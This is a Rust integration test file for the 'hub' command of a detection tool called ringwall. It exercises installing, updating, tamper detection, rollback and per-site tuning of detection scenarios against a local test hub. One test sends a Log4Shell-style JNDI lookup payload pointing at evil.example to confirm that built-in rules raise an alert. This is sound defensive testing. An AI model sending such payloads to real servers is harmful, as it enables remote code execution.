//! `ringwall hub` against hubs of this test's own.

mod server;
mod trouble;

use std::process::{Command, Output};

use crate::instance::{self, Instance, site, upstream};
use crate::support::{self, Folder, RINGWALL};
use server::{Hub, trigger};

/// A state directory and a configuration that names a hub; no instance runs.
struct Place {
    folder: Folder,
}

impl Place {
    fn of(hub_url: &str) -> Self {
        let folder = Folder::make("hub");
        let edge = ([127, 0, 0, 1], 1).into();
        let text = instance::text(&folder, edge, "", &detection(hub_url));
        folder.file("ringwall.toml", &text);
        Self { folder }
    }

    fn new(hub: &Hub) -> Self {
        Self::of(&format!("http://{}/", hub.address))
    }

    fn command(&self, words: &[&str]) -> Command {
        command(&self.folder, words)
    }

    fn run(&self, words: &[&str]) -> Output {
        self.command(words).output().expect("ringwall runs")
    }

    fn say(&self, words: &[&str]) -> String {
        said(&self.run(words), words)
    }

    fn refuse(&self, words: &[&str]) -> String {
        let output = self.run(words);
        let errors = String::from_utf8_lossy(&output.stderr).into_owned();
        let told = String::from_utf8_lossy(&output.stdout);
        assert_eq!(output.status.code(), Some(1), "{words:?}: {told}{errors}");
        errors
    }

    /// Names and states of what is listed.
    fn listed(&self) -> Vec<String> {
        listed(&self.run(&["list"]), &self.run(&["--json", "list"]))
    }
}

fn command(folder: &Folder, words: &[&str]) -> Command {
    let mut command = Command::new(RINGWALL);
    command.arg("--config").arg(folder.0.join("ringwall.toml"));
    command.arg("hub").args(words);
    command
}

fn said(output: &Output, words: &[&str]) -> String {
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{words:?}: {errors}");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn listed(table: &Output, json: &Output) -> Vec<String> {
    let table = said(table, &["list"]);
    assert!(
        table.lines().all(|line| line.chars().count() <= 80),
        "{table}"
    );
    let lines = support::json_lines(json);
    let line = |line: &serde_json::Value| {
        let text = |key: &str| line[key].as_str().unwrap_or_default().to_owned();
        format!("{} {} {}", text("name"), text("version"), text("state")).replace("  ", " ")
    };
    lines.iter().map(line).collect()
}

fn detection(hub_url: &str) -> String {
    format!("[detection]\nhub_url = \"{hub_url}\"\n")
}

/// A hub with a collection of two scenarios.
fn small() -> Hub {
    let hub = Hub::start();
    let mut files = hub.files();
    files.publish("scenarios", "me/one", "0.1", &trigger("me/one", "/one"));
    files.publish("scenarios", "me/two", "0.1", &trigger("me/two", "/two"));
    files.publish("appsec-rules", "me/patch", "0.1", "name: me/patch\n");
    files.collect("me/both", "0.1", &["me/one", "me/two"]);
    drop(files);
    hub
}

#[test]
fn items_come_with_what_they_need_and_are_listed_as_they_stand() {
    let hub = small();
    let place = Place::new(&hub);
    assert!(
        place
            .say(&["list"])
            .contains("Nothing of the hub is installed")
    );
    let told = place.say(&["install", "me/both", "--dry-run"]);
    assert!(
        told.contains("Nothing was done") && told.contains("3 new"),
        "{told}"
    );
    assert_eq!(hub.asked("scenarios"), 0);
    let told = place.say(&["install", "me/both"]);
    assert!(
        told.contains("Set 1 is in force") && told.contains("appsec items"),
        "{told}"
    );
    assert_eq!(
        place.listed(),
        [
            "me/both 0.1 up-to-date",
            "me/one 0.1 up-to-date",
            "me/two 0.1 up-to-date"
        ]
    );
    assert!(
        place
            .say(&["install", "me/both"])
            .contains("All of it is installed")
    );
    // The hub moves on; what is kept of its index is asked for only when it changed.
    assert!(place.say(&["update"]).contains("Everything is up to date"));
    assert_eq!(hub.asked("unchanged .index.json"), 3);
    hub.files()
        .publish("scenarios", "me/one", "0.2", &trigger("me/one", "/uno"));
    assert!(place.say(&["search", "one", "test"]).contains("me/one"));
    let state = place.folder.0.join("state/hub/current/scenarios/me");
    let two = state.join("two.yaml");
    std::fs::write(&two, trigger("me/two", "/mine")).expect("root writes");
    std::fs::write(state.join("own.yaml"), trigger("me/own", "/own")).expect("root writes");
    assert_eq!(
        place.listed(),
        [
            "me/both 0.1 up-to-date",
            "me/one 0.1 update-available",
            "me/two tampered",
            "me/own local"
        ]
    );
    hub.files()
        .publish("scenarios", "me/two", "0.2", &trigger("me/two", "/dos"));
    let told = place.say(&["update"]);
    assert!(
        told.contains("0.1 → 0.2") && told.contains("Tampered, and left as they are: me/two"),
        "{told}"
    );
    assert_eq!(
        place.listed(),
        [
            "me/both 0.1 up-to-date",
            "me/one 0.2 up-to-date",
            "me/two tampered",
            "me/own local"
        ]
    );
    place.say(&["update", "--force"]);
    let all_well = [
        "me/both 0.1 up-to-date",
        "me/one 0.2 up-to-date",
        "me/two 0.2 up-to-date",
        "me/own local",
    ];
    assert_eq!(place.listed(), all_well);
    // Back, and back again; and on to where it was.
    place.say(&["rollback"]);
    place.say(&["rollback"]);
    assert_eq!(place.listed()[1], "me/one 0.1 update-available");
    assert!(place.refuse(&["rollback"]).contains("is the first"));
    assert!(place.say(&["rollback", "--list"]).contains("current"));
    place.say(&["rollback", "3"]);
    assert_eq!(place.listed(), all_well);
    assert!(place.refuse(&["rollback", "7"]).contains("set 7"));
    // Out again.
    assert!(
        place
            .refuse(&["remove", "me/one"])
            .contains("me/both needs")
    );
    place.say(&["remove", "me/both"]);
    assert_eq!(place.listed(), ["me/own local"]);
}

#[test]
fn a_running_instance_takes_up_what_is_installed_tuned_and_taken_back() {
    let hub = small();
    let up = upstream("up");
    let sites = site("shop.example", up) + &site("blog.example", up);
    let instance = Instance::start(&sites, &detection(&format!("http://{}/", hub.address)));
    let alerts = |path: &str, host: &str, source: u8| {
        let request = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        let address = [127, 0, 7, source];
        instance::send_from(address, instance.edge, request.as_bytes());
        let value = format!("127.0.7.{source}");
        let found = support::json_lines(&instance.run(&["--json", "alert", "list", &value]));
        let names = found
            .iter()
            .map(|alert| alert["scenario"].as_str().unwrap_or_default().to_owned());
        names.collect::<Vec<_>>()
    };
    let hub_says = |words: &[&str]| {
        let output = command(&instance.folder, words)
            .output()
            .expect("ringwall runs");
        said(&output, words)
    };
    assert_eq!(alerts("/one", "shop.example", 1), [""; 0]);
    let told = hub_says(&["install", "me/both"]);
    assert!(told.contains("took it up"), "{told}");
    assert_eq!(alerts("/one", "shop.example", 2), ["me/one"]);
    // Our own rules are still there.
    let own = alerts("/?x=${jndi:ldap://evil.example/a}", "shop.example", 3);
    assert!(
        own.iter().any(|name| name.starts_with("ringwall/")),
        "{own:?}"
    );
    let told = hub_says(&["tune", "me/one", "--off", "--site", "shop.example"]);
    assert!(
        told.contains("off at shop.example") && told.contains("took it up"),
        "{told}"
    );
    assert_eq!(alerts("/one", "shop.example", 4), [""; 0]);
    assert_eq!(alerts("/one", "blog.example", 5), ["me/one"]);
    assert!(hub_says(&["list"]).contains("0.1 tuned"));
    hub_says(&["tune", "me/one", "--on", "--site", "shop.example"]);
    assert_eq!(alerts("/one", "shop.example", 6), ["me/one"]);
    hub_says(&["tune", "me/one", "--off"]);
    assert_eq!(alerts("/one", "blog.example", 7), [""; 0]);
    hub_says(&["tune", "me/one", "--reset"]);
    assert!(hub_says(&["tune"]).contains("Nothing is tuned"));
    // Ours are tuned the same way.
    hub_says(&[
        "tune",
        "ringwall/http-probing",
        "--capacity",
        "50",
        "--leakspeed",
        "5s",
    ]);
    hub_says(&["remove", "me/both"]);
    assert_eq!(alerts("/one", "blog.example", 8), [""; 0]);
    hub_says(&["rollback"]);
    assert_eq!(alerts("/one", "blog.example", 9), ["me/one"]);
    // After a restart, too.
    let Instance {
        process,
        folder,
        edge,
    } = instance;
    drop(process);
    let instance = Instance::again(folder, edge);
    instance::send_from(
        [127, 0, 7, 10],
        edge,
        b"GET /two HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n",
    );
    let found = instance.say(&["alert", "list", "127.0.7.10"]);
    assert!(found.contains("me/two"), "{found}");
}

#[test]
fn the_hub_as_it_is_installs_and_runs() {
    let (Some(checkout), Some(shared)) = (
        support::shared("hub"),
        support::shared("crowdsec/sec-lists"),
    ) else {
        return;
    };
    let hub = Hub::start();
    {
        let mut files = hub.files();
        read_all(&checkout, "", &mut files);
        let index = std::fs::read(checkout.join(".index.json")).expect("it is read");
        files.files.insert(".index.json".to_owned(), index);
    }
    let place = Place::new(&hub);
    let lists = place.folder.0.join("lists");
    let copied = Command::new("cp")
        .arg("-rL")
        .arg(shared)
        .arg(&lists)
        .status();
    assert!(copied.is_ok_and(|status| status.success()));
    let open = Command::new("chmod")
        .args(["-R", "a+rX"])
        .arg(&lists)
        .status();
    assert!(open.is_ok_and(|status| status.success()));
    let lists = lists.display().to_string();
    let wanted = [
        "crowdsecurity/nginx",
        "crowdsecurity/sshd",
        "crowdsecurity/wordpress",
    ];
    let words = [&["install"], wanted.as_slice(), &["--data", lists.as_str()]].concat();
    let told = place.say(&words);
    println!("{told}");
    let listed = place.listed();
    assert!(listed.len() > 60, "{}", listed.len());
    assert!(
        listed.iter().all(|line| line.ends_with(" up-to-date")),
        "{listed:?}"
    );
    let check = Command::new(RINGWALL)
        .arg("--config")
        .arg(place.folder.0.join("ringwall.toml"))
        .arg("check")
        .output()
        .expect("ringwall runs");
    println!("{}", String::from_utf8_lossy(&check.stdout));
    let mean = place.refuse(&["install", "crowdsecurity/wordpres"]);
    assert!(
        mean.contains("Did you mean crowdsecurity/wordpress"),
        "{mean}"
    );
    let appsec = place.refuse(&["install", "crowdsecurity/appsec-default"]);
    assert!(appsec.contains("not run yet"), "{appsec}");
}

/// All rule files below a folder.
fn read_all(folder: &std::path::Path, below: &str, files: &mut server::Files) {
    for entry in std::fs::read_dir(folder).expect("it is listed").flatten() {
        let Ok(name) = entry.file_name().into_string() else {
            continue;
        };
        let path = if below.is_empty() {
            name.clone()
        } else {
            format!("{below}/{name}")
        };
        if name.starts_with('.') {
            continue;
        }
        if entry.path().is_dir() {
            read_all(&entry.path(), &path, files);
        } else if name.ends_with(".yaml") {
            files
                .files
                .insert(path, std::fs::read(entry.path()).expect("it is read"));
        }
    }
}
